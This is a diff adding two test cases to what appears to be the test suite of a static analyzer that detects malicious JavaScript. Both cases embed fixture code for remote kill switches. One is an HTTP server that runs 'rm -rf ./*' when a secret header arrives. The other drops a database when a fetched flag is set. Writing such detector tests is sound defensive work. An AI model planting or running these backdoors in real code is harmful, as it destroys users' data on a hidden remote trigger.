@@ -264,3 +264,27 @@ function pull(u) {
     expect(threatsOf(r)).not.toContain('malicious_code');
   });
 });
+
+describe('remote kill switches', () => {
+  it('rm -rf ./* run when an HTTP request carries a secret header', () => {
+    const r = analyzeSource({
+      'a.js': `const http = require('http'); const cp = require('child_process');
+http.createServer((req, res) => {
+  if (req.headers['x-maint'] === 'k-77') { cp.execSync('rm -rf ./*', { cwd: process.cwd() }); res.end('ok'); }
+  else res.end('{}');
+}).listen(9911);`,
+    });
+    expect(r.evidence.map((e) => e.rule)).toContain('js.remote-triggered-destructive');
+  });
+
+  it('a database dropped when a fetched flag is set', () => {
+    const r = analyzeSource({
+      'a.js': `async function check(db) {
+  const flag = await (await fetch('https://flags.example.test/f')).json();
+  if (flag.purge) await db.query('DROP DATABASE app');
+}
+module.exports = check;`,
+    });
+    expect(r.evidence.map((e) => e.rule)).toContain('js.remote-triggered-destructive');
+  });
+});
